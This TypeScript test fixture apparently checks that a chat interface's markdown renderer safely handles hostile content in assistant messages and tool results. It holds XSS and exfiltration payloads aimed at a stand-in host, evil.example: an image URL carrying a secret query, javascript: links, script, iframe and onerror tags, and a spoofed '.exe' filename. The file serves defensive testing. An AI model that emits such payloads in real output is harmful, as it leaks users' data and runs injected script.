import { createToolRegistry } from 'convex-assistant-ui';
import { builtinTools } from 'convex-assistant-ui/tools';
import { MarkdownText } from 'convex-assistant-ui/markdown';
import {
  assistantRow,
  frameOf,
  renderThread,
  userRow,
  type FixturePart,
} from 'convex-assistant-ui/testing/render';

const EVIL = 'https://evil.example';

const TEXT = `Here is the chart: ![Sales by month](${EVIL}/pixel.png?q=SECRET)

![relative](/api/logout) ![protocol](//evil.example/p.png) ![svg](data:image/svg+xml,%3Csvg/%3E)

[![badge](${EVIL}/badge.svg)](https://ci.example) [out](/api/logout) [js](javascript:alert(1)) [x](${EVIL}/\u202Egnp.exe)

<img src="${EVIL}/tag.png" onerror="alert(1)"> <iframe src="${EVIL}/frame"></iframe> &amp; &copy; &nbsp;

| A | B |
|---|---|
| ![cell](${EVIL}/cell.png) | <script>alert(1)</script> |

![ref]

[ref]: ${EVIL}/ref.png

\`\`\`js
const a = "</script><script>alert(1)</script>";
\`\`\``;

const call = (name: string, input: object, output: unknown): FixturePart => ({
  type: `tool-${name}`,
  toolCallId: name,
  state: 'output-available',
  input,
  output,
});

const calls = [
  call('codeExecution', { code: '1' }, { stdout: 'x', images: [`${EVIL}/plot.png`, 'javascript:alert(1)'] }),
  call(
    'webSearch',
    { query: 'x' },
    {
      results: [
        { title: 'a\u202Eb', url: `${EVIL}/hit`, favicon: `${EVIL}/icon.png`, image: `${EVIL}/hit.png` },
      ],
    },
  ),
  call(
    'urlReader',
    { url: `${EVIL}/page` },
    { title: 'Page', url: `${EVIL}/page`, image: `${EVIL}/page.png`, content: `![x](${EVIL}/read.png)` },
  ),
  call('anything', { image: `${EVIL}/args.png` }, `${EVIL}/result.png`),
  call(
    'parts',
    {},
    {
      content: [
        { type: 'text', text: 'a' },
        { type: 'image', url: `${EVIL}/part.png` },
      ],
    },
  ),
];

const source = (url: string): FixturePart => ({ type: 'source-url', sourceId: url, url, title: 'Source' });

renderThread(
  [
    frameOf([
      userRow(0, `Look at ![this](${EVIL}/user.png)`),
      assistantRow(0, TEXT, ...calls, source(`${EVIL}/source`), source('javascript:alert(1)')),
    ]),
  ],
  {
    container: document.querySelector<HTMLElement>('#root')!,
    components: { Text: MarkdownText },
    tools: createToolRegistry(builtinTools),
  },
);
document.body.dataset['ready'] = '';
